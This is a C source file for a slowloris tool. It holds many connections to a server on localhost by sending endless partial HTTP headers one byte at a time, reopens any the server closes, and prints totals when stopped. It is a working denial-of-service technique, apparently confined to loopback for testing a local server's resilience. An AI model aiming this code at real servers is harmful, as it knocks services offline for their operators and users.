// Occupies a server's connections with heads that never end. Each connection sends a byte every MILLISECONDS. If the
// server closes one, this program opens it again. Usage: slowloris PORT CONNECTIONS MILLISECONDS. Runs until SIGTERM,
// and then prints totals.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char head[] = "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";
static int poll_, port, *sockets, *sent;
static long bytes, closed, refused;
static volatile sig_atomic_t is_over;

static void stop(int number) {
    (void)number;
    is_over = 1;
}

static void open_(int index) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    struct epoll_event event = {.events = EPOLLIN | EPOLLRDHUP, .data.u32 = index};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sockets[index] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    sent[index] = 0;
    if (connect(sockets[index], (struct sockaddr *)&address, sizeof address) && errno != EINPROGRESS) refused++;
    epoll_ctl(poll_, EPOLL_CTL_ADD, sockets[index], &event);
}

static void reopen(int index) {
    close(sockets[index]);
    closed++;
    open_(index);
}

static void send_one(int index) {
    char byte = sent[index] < (int)sizeof head - 1 ? head[sent[index]] : 'a';
    if (send(sockets[index], &byte, 1, MSG_NOSIGNAL) == 1) {
        sent[index]++;
        bytes++;
    } else if (errno != EAGAIN) {
        reopen(index);
    }
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * 1e3 + time.tv_nsec / 1e6;
}

int main(int count, char **arguments) {
    if (count != 4) return 2;
    port = atoi(arguments[1]);
    int connections = atoi(arguments[2]), next = 0;
    // The connections send in turn, each once per interval.
    double pause = atof(arguments[3]) / connections, due = now();
    sockets = calloc(connections, sizeof *sockets);
    sent = calloc(connections, sizeof *sent);
    poll_ = epoll_create1(0);
    signal(SIGTERM, stop);
    for (int index = 0; index < connections; index++) open_(index);
    while (!is_over) {
        struct epoll_event events[256];
        double wait = due - now();
        int ready = epoll_wait(poll_, events, 256, wait > 0 ? (int)wait + 1 : 0);
        for (int index = 0; index < ready; index++) {
            char answer[4096];
            ssize_t length = read(sockets[events[index].data.u32], answer, sizeof answer);
            if (length == 0 || (length < 0 && errno != EAGAIN)) reopen(events[index].data.u32);
        }
        for (; due <= now(); due += pause, next = (next + 1) % connections) send_one(next);
    }
    printf("%ld bytes sent, %ld connections closed, %ld refused\n", bytes, closed, refused);
    return 0;
}
